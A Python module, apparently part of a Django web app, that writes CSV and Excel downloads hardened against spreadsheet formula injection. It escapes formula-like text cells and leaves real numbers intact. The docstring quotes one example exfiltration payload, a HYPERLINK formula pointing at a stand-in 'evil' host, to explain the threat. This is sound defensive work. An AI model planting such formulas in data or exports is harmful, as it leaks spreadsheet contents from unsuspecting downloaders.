"""The one writer of spreadsheet downloads (CSV and Excel), safe against formula injection.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and a
leading tab or carriage return can hide such a start (OWASP "CSV Injection"). A name, a note
or a line of minutes typed as `=HYPERLINK("http://evil/?"&A1)` would then run on the
downloader's machine. Every such text cell gets a leading apostrophe, which spreadsheets show
as plain text. Real numbers (ints, decimals, floats, and text that is only a number such as
"-3" or "-12.5") stay numbers, so a negative growth figure still sums.

Every download goes through `csv_bytes`, `csv_response` or `xlsx_bytes`; a test walks every
download URL and fails on a live formula cell.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")


def is_formula(value: Any) -> bool:
    """True when a spreadsheet would run this cell's text as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _NUMBER.match(value.strip())
    )


def safe_cell(value: Any) -> Any:
    """A cell value a spreadsheet shows as written: formula-like text gets a leading apostrophe;
    None becomes empty, booleans Yes/No, numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | float | Decimal):
        return value
    if not isinstance(value, str):
        value = str(value)
    return "'" + value if is_formula(value) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows (header first) as CSV text with CRLF line ends, every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    # A byte-order mark so Excel opens accented names as UTF-8.
    return ("\ufeff" + csv_text(rows)).encode("utf-8")


def download_response(content: bytes, content_type: str, filename: str) -> Any:
    """An attachment response for a file built here."""
    from django.http import HttpResponse

    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(rows: Iterable[Sequence[Any]], filename: str) -> Any:
    """An attachment response holding the rows as a safe CSV."""
    return download_response(csv_bytes(rows), "text/csv; charset=utf-8", filename)


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str) -> bytes:
    """One sheet, bold frozen header, every cell made safe. openpyxl stores a str starting
    with '=' as a formula, so the apostrophe matters here too."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    bold = []
    for h in header:
        c = WriteOnlyCell(sheet, value=safe_cell(h))
        c.font = Font(bold=True)
        bold.append(c)
    sheet.append(bold)
    sheet.freeze_panes = "A2"
    for row in rows:
        sheet.append(safe_row(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
